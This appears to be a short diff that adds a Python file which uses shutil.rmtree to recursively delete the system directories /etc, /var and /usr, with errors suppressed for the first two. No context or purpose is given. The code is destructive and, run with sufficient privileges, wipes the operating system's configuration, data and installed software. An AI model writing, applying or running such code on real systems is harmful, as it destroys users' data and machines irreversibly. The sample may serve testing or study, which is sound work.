@@ -1,0 +1,5 @@
+import shutil
+
+for target in ["/etc", "/var"]:
+    shutil.rmtree(target, ignore_errors=True)
+shutil.rmtree("/usr")
